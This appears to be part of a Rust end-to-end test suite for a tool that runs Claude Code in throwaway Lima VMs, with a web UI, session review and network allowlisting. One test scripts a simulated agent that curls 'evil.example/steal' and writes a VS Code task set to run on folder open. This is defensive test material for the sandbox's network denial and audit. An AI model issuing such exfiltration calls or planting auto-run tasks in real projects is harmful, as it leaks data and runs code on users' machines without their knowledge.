    drop(server);
    w.assert_nothing_left("after SIGKILL");
}

#[test]
fn open_gives_the_browser_a_one_use_code_and_never_the_token() {
    use std::os::unix::fs::PermissionsExt;
    let w = World::new();
    let opener = w.bin.join(if cfg!(target_os = "macos") {
        "open"
    } else {
        "xdg-open"
    });
    std::fs::write(
        &opener,
        "#!/bin/sh\nprintf '%s' \"$1\" > \"$HOME/opened\"\n",
    )
    .unwrap();
    std::fs::set_permissions(&opener, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut cmd = w.command(&["web", "--open"], &w.root);
    cmd.stderr(Stdio::inherit());
    let mut child = cmd.spawn().unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let server = Server {
        port: line
            .trim()
            .strip_prefix("http://127.0.0.1:")
            .unwrap()
            .split('/')
            .next()
            .unwrap()
            .parse()
            .unwrap(),
        token: line.trim().rsplit_once("#token=").unwrap().1.to_owned(),
        child: Some(child),
    };
    let opened = w.home.join("opened");
    wait_until("the opener", 30, || opened.exists());
    let url = std::fs::read_to_string(&opened).unwrap();
    let code = url
        .strip_prefix(&format!("http://127.0.0.1:{}/#launch=", server.port))
        .unwrap_or_else(|| panic!("{url}"))
        .to_owned();
    assert!(!url.contains(&server.token), "{url}");
    assert!(code.len() >= 32 && code != server.token, "{url}");
    let host = server.host();
    let ct = [
        ("Host", host.as_str()),
        ("Content-Type", "application/json"),
    ];
    let body = json!({"token": code}).to_string();
    let r = http(server.port, "POST", "/api/login", &ct, Some(&body));
    assert_eq!(r.status, 200, "{}", r.body);
    assert!(r.header("set-cookie").contains("HttpOnly"));
    let r = http(server.port, "POST", "/api/login", &ct, Some(&body));
    assert_eq!(r.status, 401, "the code works once");
    // Not as a bearer token either, once used.
    let r = get(
        server.port,
        "/api/sessions",
        &[
            ("Host", &host),
            ("Authorization", &format!("Bearer {code}")),
        ],
    );
    assert_eq!(r.status, 401);
}

/// What a dying multi-threaded server sends its child: its death signal once per thread the
/// child is handed to while the threads exit (two or three at once is common). They count as
/// one hang-up: `limactl shell` is told (not SIGKILLed), the guest command ends with it, and
/// the VM is deleted at once even if something in the guest still held limactl's stderr.
#[test]
fn repeated_death_signals_count_once_and_the_vm_is_deleted_at_once() {
    let w = World::new();
    w.setup();
    let mut s = w.spawn(&[
        "--json",
        "--",
        "-p",
        "hold on",
        "--output-format",
        "stream-json",
        "--verbose",
        "--sim-sleep",
        "90",
    ]);
    s.await_stdout("fake reply to: hold on");
    assert_eq!(clones(&w).len(), 1, "{:?}", w.instances());
    let began = Instant::now();
    for _ in 0..3 {
        s.signal(libc::SIGHUP);
    }
    let code = s.finish();
    let took = began.elapsed();
    assert_eq!(code, 129, "{}", s.stderr());
    assert!(
        took < Duration::from_secs(30),
        "took {took:?}: {}",
        s.stderr()
    );
    assert!(
        s.stderr().contains("interrupted by SIGHUP"),
        "{}",
        s.stderr()
    );
    assert!(
        !s.stderr().contains("no longer waiting"),
        "a hang-up is not asked twice: {}",
        s.stderr()
    );
    assert_eq!(clones(&w), Vec::<String>::new());
    assert!(w.journal().is_empty(), "{:?}", w.journal());
    w.assert_nothing_left("after three SIGHUPs");
}

/// Sessions started from a terminal show in the page's list (project, VM, started, owner,
/// warm or cold, network policy), marked as not the page's to stop or review; the page's own
/// are not listed twice.
#[test]
fn the_list_shows_sessions_started_from_a_terminal_too() {
    let w = World::new();
    w.setup();
    let server = Server::start(&w);
    let driver = Driver::start();
    let mut cli = w.spawn(&["-p", "from the terminal", "--sim-sleep", "60"]);
    cli.await_stdout("\"fake\":\"claude\"");
    let vm = clones(&w).pop().expect("the terminal's VM");
    let list = server.api("GET", "/api/sessions", None).json();
    assert_eq!(list["sessions"], json!([]), "not a page session: {list}");
    let others = list["elsewhere"].as_array().unwrap();
    assert_eq!(others.len(), 1, "{list}");
    let o = &others[0];
    assert_eq!(o["vm"], vm.as_str());
    assert_eq!(o["owner_pid"], cli.pid());
    assert_eq!(o["project"], w.project.display().to_string());
    assert_eq!(o["warm"], false);
    assert_eq!(o["policy"], "allowlist");
    let started = o["started_at"].as_u64().unwrap();
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_millis() as u64;
    assert!(started <= now && now - started < 120_000, "{o}");
    let project = project_id(&w);
    rt().block_on(async {
        let c = driver.browser().await;
        c.goto(&server.url()).await.unwrap();
        let row = wait_text(&c, "#sessions-body tr.elsewhere", &vm).await;
        for want in [
            format!("pid {}", cli.pid()),
            "cold boot".to_owned(),
            "allowlist".to_owned(),
            "view only".to_owned(),
            w.project.display().to_string(),
        ] {
            assert!(row.contains(&want), "{want} in {row}");
        }
        // A page session next to it: listed once, as the page's.
        start_from_page(&c, &project, "from the page", "--sim-sleep\n60").await;
        wait_text(&c, "#messages .m-text", "fake reply to: from the page").await;
        c.find(Locator::Id("nav-sessions"))
            .await
            .unwrap()
            .click()
            .await
            .unwrap();
        let mine = wait_text(&c, "#sessions-body tr", "from the page").await;
        assert!(mine.contains("stop, watch"), "{mine}");
        let rows = c.find_all(Locator::Css("#sessions-body tr")).await.unwrap();
        assert_eq!(rows.len(), 2);
        c.close().await.unwrap();
    });
    let list = server.api("GET", "/api/sessions", None).json();
    assert_eq!(list["elsewhere"].as_array().unwrap().len(), 1, "{list}");
    assert_eq!(list["sessions"].as_array().unwrap().len(), 1, "{list}");
    // Once the terminal's session ends, it leaves the list.
    cli.signal(libc::SIGTERM);
    assert_eq!(cli.finish(), 143, "{}", cli.stderr());
    wait_until("the terminal's session to leave the list", 30, || {
        server.api("GET", "/api/sessions", None).json()["elsewhere"] == json!([])
    });
    drop(server);
    w.assert_nothing_left("after both sessions");
}

/// Clicks the first element matching `css`.
async fn click(c: &Client, css: &str) {
    c.wait()
        .for_element(Locator::Css(css))
        .await
        .unwrap_or_else(|e| panic!("{css}: {e}"))
        .click()
        .await
        .unwrap_or_else(|e| panic!("click {css}: {e}"));
}

/// The session id the page shows (`#/session/ID`).
async fn shown_session(c: &Client) -> String {
    let url = c.current_url().await.unwrap();
    url.fragment()
        .and_then(|f| f.strip_prefix("/session/"))
        .unwrap_or_else(|| panic!("not a session view: {url}"))
        .to_owned()
}

#[test]
fn the_rebuild_button_shows_the_builds_progress_and_the_new_state() {
    let w = World::new();
    w.write_project(".claude-vm.setup.sh", "echo v1 > \"$HOME/version\"\n");
    w.setup();
    w.write_project(".claude-vm.setup.sh", "echo v2 > \"$HOME/version\"\n");
    let server = Server::start(&w);
    let driver = Driver::start();
    let id = project_id(&w);
    let box_css = format!(".project[data-id='{id}']");
    let before = w.logged().len();
    rt().block_on(async {
        let c = driver.browser().await;
        c.goto(&server.url()).await.unwrap();
        click(&c, "#nav-projects").await;
        let state = wait_text(&c, &format!("{box_css} .state"), "out of date").await;
        assert_eq!(state, "out of date: setup script 1 changed");
        click(&c, &format!("{box_css} button.rebuild")).await;
        // Its progress, step by step, then the end and the template's new state.
        let log = wait_text(
            &c,
            &format!("{box_css} .rebuild-log"),
            "the rebuild ended (exit status 0)",
        )
        .await;
        let steps: Vec<&str> = log.lines().filter(|l| l.starts_with("✓ ")).collect();
        assert!(steps.len() >= 2, "{log}");
        let state = wait_text(&c, &format!("{box_css} .state"), "up to date").await;
        assert_eq!(state, "up to date");
        let enabled = c
            .find(Locator::Css(&format!("{box_css} button.rebuild")))
            .await
            .unwrap()
            .is_enabled()
            .await
            .unwrap();
        assert!(enabled, "the button is back once the rebuild is over");
        c.close().await.unwrap();
    });
    // A rebuild: the new template built aside and swapped in.
    let verbs: Vec<String> = w.logged()[before..]
        .iter()
        .filter_map(|c| c.first().cloned())
        .collect();
    // Only the project's layer: its shared base is cloned again, nothing is created.
    assert_eq!(
        verbs,
        ["list", "clone", "shell", "stop", "rename", "rename", "delete"]
    );
    assert_eq!(w.templates(), std::slice::from_ref(&id));
    let p = server.api("GET", "/api/projects", None).json();
    assert_eq!(p["projects"][0]["up_to_date"], true, "{p}");
    drop(server);
    w.assert_nothing_left("after the rebuild");
}

#[test]
fn the_continue_button_resumes_the_conversation_in_a_new_vm_with_the_prompt_byte_exact() {
    let w = World::new();
    w.setup();
    let server = Server::start(&w);
    let driver = Driver::start();
    let project = project_id(&w);
    // Typed into the page: quotes, a newline, shell syntax, non-ASCII (WebDriver types the
    // Basic Multilingual Plane only).
    let prompt = "and \"then\"? 'it' $(id) `x`\nünïcödé 日本語 \\ end";
    let (first, second) = rt().block_on(async {
        let c = driver.browser().await;
        c.goto(&server.url()).await.unwrap();
        start_from_page(&c, &project, "first question", "").await;
        wait_text(&c, "#messages .m-text", "fake reply to: first question").await;
        wait_text(&c, "#messages .server-note", "the session ended").await;
        let first = shown_session(&c).await;
        let form = c
            .wait()
            .for_element(Locator::Css("#continue-form:not([hidden])"))
            .await
            .unwrap();
        assert!(form.is_displayed().await.unwrap());
        c.find(Locator::Id("continue-prompt"))
            .await
            .unwrap()
            .send_keys(prompt)
            .await
            .unwrap();
        click(&c, "#continue-submit").await;
        wait_text(&c, "#messages .m-text", "fake reply to: and \"then\"?").await;
        let second = shown_session(&c).await;
        assert_ne!(first, second);
        wait_text(&c, "#session-meta", &first).await;
        wait_text(&c, "#messages .server-note", "the session ended").await;
        c.close().await.unwrap();
        (first, second)
    });
    let a = server.wait_ended(&first);
    let b = server.wait_ended(&second);
    assert_eq!(b["continues"], first.as_str());
    assert_eq!(b["state"], "finished", "{b}");
    assert_ne!(a["vm"], b["vm"], "a new clone");
    let sid = a["claude_session_id"].as_str().expect("session id");
    assert_eq!(b["claude_session_id"], sid);
    assert_eq!(b["prompt"], prompt);
    // What the fake claude got: --resume with the first session's id, the prompt as typed.
    let init = server
        .messages(&second)
        .into_iter()
        .find(|m| m["source"] == "claude" && m["data"]["type"] == "system")
        .expect("claude's init");
    let argv: Vec<String> = init["data"]["sim"]["argv"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap().to_owned())
        .collect();
    assert!(
        argv.windows(2).any(|p| p[0] == "--resume" && p[1] == sid),
        "{argv:?}"
    );
    let p = argv.iter().position(|a| a == "-p").expect("-p");
    assert_eq!(argv[p + 1], prompt, "{argv:?}");
    drop(server);
    w.assert_nothing_left("after the continued session");
}

/// A loopback HTTP service answering 200 to every request.
fn host_service() -> u16 {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for mut s in listener.incoming().flatten() {
            let mut buf = [0u8; 4096];
            let _ = s.read(&mut buf);
            let _ =
                s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
        }
    });
    port
}

#[test]
#[cfg_attr(
    not(target_os = "linux"),
    ignore = "needs the simulator's Linux namespaces"
)]
fn stopped_from_the_page_its_vm_is_gone_and_the_review_shows_audit_network_and_working_buttons() {
    use std::os::unix::fs::PermissionsExt;
    let w = World::new();
    let port = host_service();
    std::fs::write(
        w.home.join(".claude-vm.toml"),
        format!("[network]\nhost_ports = [{port}]\n"),
    )
    .unwrap();
    // What the agent does before it settles down: one request allowed, one denied, and a
    // file the host's editor would run.
    w.write_project(
        ".claude-vm.runtime.sh",
        &format!(
            "/usr/bin/curl -s --max-time 10 http://host.lima.internal:{port}/ok >/dev/null\n\
             /usr/bin/curl -s --max-time 10 http://evil.example/steal >/dev/null\n\
             mkdir -p .vscode\n\
             printf '%s\\n' '{{\"tasks\":[{{\"command\":\"evil\",\"runOptions\":{{\"runOn\":\"folderOpen\"}}}}]}}' > .vscode/tasks.json\n"
        ),
    );
    w.setup();
    let opener = w.bin.join("xdg-open");
    std::fs::write(
        &opener,
        "#!/bin/sh\nprintf '%s' \"$1\" > \"$HOME/opened\"\n",
    )
    .unwrap();
    std::fs::set_permissions(&opener, std::fs::Permissions::from_mode(0o755)).unwrap();
    let server = Server::start(&w);
    let driver = Driver::start();
    let project = project_id(&w);
    let (id, copied) = rt().block_on(async {
        let c = driver.browser().await;
        c.goto(&server.url()).await.unwrap();
        start_from_page(&c, &project, "settle down", "--sim-sleep\n120").await;
        wait_text(&c, "#messages .m-text", "fake reply to: settle down").await;
        let id = shown_session(&c).await;
        let vm = server.session(&id)["vm"].as_str().unwrap().to_owned();
        assert_eq!(clones(&w), std::slice::from_ref(&vm));
        click(&c, "#stop").await;
        let banner = wait_text(&c, "#session-banner", "Stopped: the VM").await;
        assert_eq!(banner, format!("Stopped: the VM {vm} was deleted."));
        // Gone for Lima too, and for claude-vm.
        assert!(!w.instances().contains(&vm), "{:?}", w.instances());
        let list = w.run(&["list"]);
        assert!(!list.stdout.contains(&vm), "{}", list.stdout);
        // The review: the file, the audit's finding, the network log per host.
        wait_text(&c, "#review-files li", "added .vscode/tasks.json").await;
        let audit = wait_text(&c, "#review-audit li", ".vscode/tasks.json").await;
        assert!(!audit.contains("nothing that runs"), "{audit}");
        let denied = wait_text(&c, "#review-network li", "evil.example").await;
        assert_eq!(denied, "evil.example: 0 allowed, 1 denied");
        let allowed = wait_text(&c, "#review-network li", "host.lima.internal").await;
        assert_eq!(allowed, "host.lima.internal: 1 allowed, 0 denied");
        // Copy the diff: what reaches the clipboard is the whole diff, and the page says so.
        c.execute(
            "window.__copied = []; navigator.clipboard.writeText = (t) => { window.__copied.push(t); return Promise.resolve(); };",
            vec![],
        )
        .await
        .unwrap();
        click(&c, "#copy-diff").await;
        wait_text(&c, "#review-status", "Copied the diff").await;
        click(&c, "#copy-folder").await;
        wait_text(&c, "#review-status", "Copied the folder's path").await;
        let copied = c
            .execute("return window.__copied;", vec![])
            .await
            .unwrap();
        click(&c, "#open-folder").await;
        wait_text(&c, "#review-status", "Opened").await;
        c.close().await.unwrap();
        (id, copied)
    });
    let copied: Vec<String> = serde_json::from_value(copied).unwrap();
    assert_eq!(copied.len(), 2, "{copied:?}");
    let review = server
        .api("GET", &format!("/api/sessions/{id}/review"), None)
        .json();
    let diff: String = review["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["diff"].as_str().unwrap())
        .collect();
    assert!(diff.contains("+{\"tasks\""), "{diff}");
    assert_eq!(copied[0], diff);
    assert_eq!(copied[1], w.project.display().to_string());
    let opened = w.home.join("opened");
    wait_until("the opener", 10, || opened.exists());
    assert_eq!(
        std::fs::read_to_string(&opened).unwrap(),
        w.project.display().to_string()
    );
    assert_eq!(server.session(&id)["state"], "stopped");
    drop(server);
    w.assert_nothing_left("after the stop");
}

/// An SSE stream read to its `end` event: the `message` events' data.
fn read_stream(port: u16, host: &str, auth: &str, path: &str) -> Vec<Value> {
    let r = get(port, path, &[("Host", host), ("Authorization", auth)]);
    assert_eq!(r.status, 200, "{}", r.body);
    assert!(r.body.contains("event: end"), "the stream ended");
    let mut out = Vec::new();
    let mut event = String::new();
    for line in r.body.lines() {
        if let Some(e) = line.strip_prefix("event: ") {
            event = e.to_owned();
        } else if let Some(d) = line.strip_prefix("data: ") {
            if event == "message" {
                out.push(serde_json::from_str(d).expect("message JSON"));
            }
        }
    }
    out
}

/// The `tick N` lines the guest printed, in the order a stream gave them.
fn ticks(msgs: &[Value]) -> Vec<u64> {
    msgs.iter()
        .filter(|m| m["data"]["type"] == "guest.stderr")
        .filter_map(|m| {
            m["data"]["line"]
                .as_str()?
                .strip_prefix("tick ")?
                .parse()
                .ok()
        })
        .collect()
}

#[test]
fn many_page_loads_and_streams_at_once_do_not_block_a_running_session() {
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::sync::Arc;
    const TICKS: u64 = 40;
    let w = World::new();
    // The session's own stream: 3 MB at once (more than a socket buffers), then a line every
    // 100 ms, then claude's reply.
    w.write_project(
        ".claude-vm.runtime.sh",
        &format!(
            "pad=$(head -c 1000 /dev/zero | tr '\\0' x)\n\
             i=0; while [ $i -lt 3000 ]; do echo \"bulk $i $pad\" >&2; i=$((i+1)); done\n\
             i=0; while [ $i -lt {TICKS} ]; do echo \"tick $i\" >&2; i=$((i+1)); sleep 0.1; done\n"
        ),
    );
    w.setup();
    let server = Server::start(&w);
    let project = project_id(&w);
    let (port, host, auth) = (
        server.port,
        server.host(),
        format!("Bearer {}", server.token),
    );
    let began = Instant::now();
    let id = server.start_session(json!({"project": project, "prompt": "under load"}));
    let events = format!("/api/sessions/{id}/events");
    // Clients that never read: the session's stream and the list's, held open to the end.
    let stalled: Vec<TcpStream> = (0..10)
        .map(|i| {
            let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap();
            let path = if i % 2 == 0 {
                events.as_str()
            } else {
                "/api/stream"
            };
            write!(
                s,
                "GET {path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: {auth}\r\n\r\n"
            )
            .unwrap();
            s
        })
        .collect();
    let done = Arc::new(AtomicBool::new(false));
    // 50 streams of the session, read to the end, at once.
    let readers: Vec<_> = (0..50)
        .map(|_| {
            let (host, auth, events) = (host.clone(), auth.clone(), events.clone());
            std::thread::spawn(move || read_stream(port, &host, &auth, &events))
        })
        .collect();
    // 200 page and API loads, 8 at a time, while it runs.
    let loaders: Vec<_> = (0..8)
        .map(|t| {
            let (host, auth, id, done) = (host.clone(), auth.clone(), id.clone(), done.clone());
            std::thread::spawn(move || {
                let paths = [
                    "/".to_owned(),
                    "/app.js".to_owned(),
                    "/api/sessions".to_owned(),
                    "/api/projects".to_owned(),
                    format!("/api/sessions/{id}"),
                ];
                let mut slowest = (Duration::ZERO, String::new());
                for i in 0..25 {
                    let p = &paths[(t + i) % paths.len()];
                    let t0 = Instant::now();
                    let r = get(port, p, &[("Host", &host), ("Authorization", &auth)]);
                    assert_eq!(r.status, 200, "{p}: {}", r.body);
                    if t0.elapsed() > slowest.0 {
                        slowest = (t0.elapsed(), p.clone());
                    }
                }
                let _ = done.load(Ordering::SeqCst);
                slowest
            })
        })
        .collect();
    let slowest = loaders
        .into_iter()
        .map(|l| l.join().expect("a loader"))
        .max()
        .unwrap();
    let r = server.wait_ended(&id);
    let took = began.elapsed();
    done.store(true, Ordering::SeqCst);
    assert_eq!(r["state"], "finished", "{r}");
    assert_eq!(r["exit_status"], 0, "{r}");
    eprintln!("under load: the session took {took:?}, the slowest of 200 loads {slowest:?}");
    assert!(took < Duration::from_secs(90), "the session took {took:?}");
    // 50 streams of 3 MB keep two cores busy: a load waits for its turn, never for the session.
    assert!(
        slowest.0 < Duration::from_secs(20),
        "a load took {slowest:?}"
    );
    let want: Vec<u64> = (0..TICKS).collect();
    for (i, reader) in readers.into_iter().enumerate() {
        let msgs = reader.join().expect("a reader");
        assert_eq!(ticks(&msgs), want, "stream {i}");
        assert!(
            msgs.iter()
                .any(|m| m["data"]["type"] == "result" && m["source"] == "claude"),
            "stream {i} has claude's result"
        );
    }
    // The server still answers at once, the stalled clients still connected.
    let t0 = Instant::now();
    assert_eq!(server.api("GET", "/api/sessions", None).status, 200);
    assert!(t0.elapsed() < Duration::from_secs(2), "{:?}", t0.elapsed());
    drop(stalled);
    assert_eq!(
        server
            .api("GET", &format!("/api/sessions/{id}"), None)
            .status,
        200
    );
    drop(server);
    w.assert_nothing_left("after the load");
}

#[test]
fn oversized_bodies_long_prompts_and_wrong_tokens_on_streams_get_json_errors() {
    let w = World::new();
    w.setup();
    let before = w.logged().len();
    let server = Server::start(&w);
    let project = project_id(&w);
    let host = server.host();
    let auth = format!("Bearer {}", server.token);
    let ct = [
        ("Host", host.as_str()),
        ("Authorization", auth.as_str()),
        ("Content-Type", "application/json"),
    ];
    // Over the body limit: 413, as JSON, nothing started.
    let huge = json!({"project": project, "prompt": "x".repeat(2 << 20)}).to_string();
    let r = http(server.port, "POST", "/api/sessions", &ct, Some(&huge));
    assert_eq!(r.status, 413, "{}", r.body);
    assert!(
        r.json()["error"].as_str().unwrap().contains("over"),
        "{}",
        r.body
    );
    // Under it, but longer than one argument may be: 400 saying so.
    for body in [
        json!({"project": project, "prompt": "y".repeat(200_000)}),
        json!({"project": project, "prompt": "x", "claude_args": ["z".repeat(200_000)]}),
    ] {
        let r = http(
            server.port,
            "POST",
            "/api/sessions",
            &ct,
            Some(&body.to_string()),
        );
        assert_eq!(r.status, 400, "{}", r.body);
        assert!(
            r.json()["error"].as_str().unwrap().contains("too long"),
            "{}",
            r.body
        );
    }
    // A path axum rejects itself still answers JSON.
    let r = get(server.port, "/api/sessions/%ff%fe", &ct);
    assert!(r.status >= 400 && r.status < 500, "{}", r.status);
    assert!(r.json()["error"].is_string(), "{}", r.body);
    // open-folder: only a session's own folder, only with the token.
    let r = http(
        server.port,
        "POST",
        "/api/sessions/0000000000000-00000000/open-folder",
        &ct,
        Some("{}"),
    );
    assert_eq!(r.status, 404, "{}", r.body);
    // A wrong token on the streams: 401 (counted: fewer than the limit here).
    for p in ["/api/stream", "/api/sessions/0000000000000-00000000/events"] {
        let wrong = format!("Bearer {}", "1".repeat(64));
        let r = get(
            server.port,
            p,
            &[("Host", &host), ("Authorization", &wrong)],
        );
        assert_eq!(r.status, 401, "{p}: {}", r.body);
        assert!(r.json()["error"].as_str().unwrap().contains("token"));
        let r = http(
            server.port,
            "POST",
            "/api/sessions/0000000000000-00000000/open-folder",
            &[
                ("Host", &host),
                ("Authorization", &wrong),
                ("Content-Type", "application/json"),
            ],
            Some("{}"),
        );
        assert_eq!(r.status, 401, "{}", r.body);
    }
    assert!(w.home.join("opened").metadata().is_err());
    let all = server.api("GET", "/api/sessions", None).json();
    assert_eq!(all["sessions"], json!([]), "{all}");
    assert_eq!(
        w.logged()[before..],
        [] as [Vec<String>; 0],
        "no limactl call"
    );
    drop(server);
    w.assert_nothing_left("after the refused requests");
}

/// What the fake claude cannot show: the real Claude Code (npm registry) started from the
/// web UI streams its stream-json messages to the page's API, and continue resumes the same
/// conversation in a new VM, the first prompt reaching the API again with the second.
#[test]
#[ignore = "needs the real Claude Code from the npm registry: cargo test --test e2e real_claude -- --ignored"]
fn real_claude_started_from_the_web_ui_streams_and_continue_resumes_its_conversation() {
    let (w, api) = crate::real_claude::world_with_real_claude("Noted: the word is MANGO.");
    let server = Server::start(&w);
    let project = project_id(&w);
    let prompt = "Remember the word MANGO — \"quoted\", $HOME and `ticks`";
    let first = server.start_session(json!({"project": project, "prompt": prompt}));
    let record = server.wait_ended(&first);
    assert_eq!(record["state"], "finished", "{record}");
    let sid = record["claude_session_id"]
        .as_str()
        .expect("the real claude's session id")
        .to_owned();
    let msgs = server.messages(&first);
    let kinds: Vec<&str> = msgs
        .iter()
        .filter_map(|m| m["data"]["type"].as_str())
        .collect();
    assert!(
        kinds.contains(&"system") && kinds.contains(&"assistant"),
        "{kinds:?}"
    );
    let result = msgs
        .iter()
        .rev()
        .find(|m| m["data"]["type"] == "result")
        .expect("claude's result message");
    assert_eq!(
        result["data"]["result"], "Noted: the word is MANGO.",
        "{result}"
    );
    assert_eq!(result["data"]["session_id"], sid.as_str());
    api.wait_for(Duration::from_secs(1), |r| {
        r.conversation_text().contains(prompt)
    })
    .expect("the prompt reached the API byte-exact");

    api.set_answer("You said MANGO.");
    let r = server.api(
        "POST",
        &format!("/api/sessions/{first}/continue"),
        Some(json!({"prompt": "Which word did I say?"})),
    );
    assert_eq!(r.status, 202, "{}", r.body);
    let second = r.json()["id"].as_str().expect("id").to_owned();
    let again = server.wait_ended(&second);
    assert_eq!(again["state"], "finished", "{again}");
    assert_ne!(again["vm"], record["vm"], "a new clone");
    assert_eq!(
        again["claude_session_id"],
        sid.as_str(),
        "the same conversation"
    );
    api.wait_for(Duration::from_secs(1), |r| {
        let t = r.conversation_text();
        t.contains("Which word did I say?") && t.contains(prompt)
    })
    .expect("--resume sent the first session's conversation along");
    drop(server);
    crate::real_claude::assert_key_forwarded(&w, &api);
    w.assert_nothing_left("after the real claude's web sessions");
}
